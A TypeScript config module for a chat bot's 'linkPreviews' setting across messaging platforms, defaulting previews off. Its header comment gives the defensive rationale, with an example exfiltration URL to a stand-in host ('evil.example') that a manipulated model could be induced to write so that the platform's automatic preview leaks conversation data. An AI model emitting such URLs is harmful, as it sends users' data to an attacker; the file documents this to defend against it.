/**
 * `adapters.<platform>.linkPreviews`, shared by the platforms whose servers fetch the links
 * in a bot's message to build a preview (Telegram, Discord, Slack, WhatsApp): its zod shape
 * ({@link linkPreviewsShape}), its `EXPECTED` line ({@link LINK_PREVIEWS_EXPECTED}) and its
 * resolution ({@link resolveLinkPreviews}).
 *
 * Previews are off by default: a preview is fetched by the platform with no click, so a URL
 * the model was talked into writing (`https://evil.example/?d=<what it found>`) would carry
 * data out of the conversation on its own (docs/platforms.md, "No link previews").
 *
 * @module
 */
import { z } from "zod";

/** Zod shape of the key. */
export const linkPreviewsShape = {
  linkPreviews: z.boolean().optional(),
};

/** The `EXPECTED` line of `adapters.<platform>.linkPreviews`, by key (the descriptor adds the prefix). */
export const LINK_PREVIEWS_EXPECTED: Readonly<Record<string, string>> = {
  linkPreviews: "true or false: let the platform fetch and show previews of links in the bot's replies (default false: previews off)",
};

/** The resolved key. */
export interface LinkPreviewsConfig {
  /** Whether sends ask the platform for link previews (default false). */
  linkPreviews: boolean;
}

/** Resolves `linkPreviews` of a section (absent: false). */
export function resolveLinkPreviews(section: { linkPreviews?: boolean }): LinkPreviewsConfig {
  return { linkPreviews: section.linkPreviews ?? false };
}
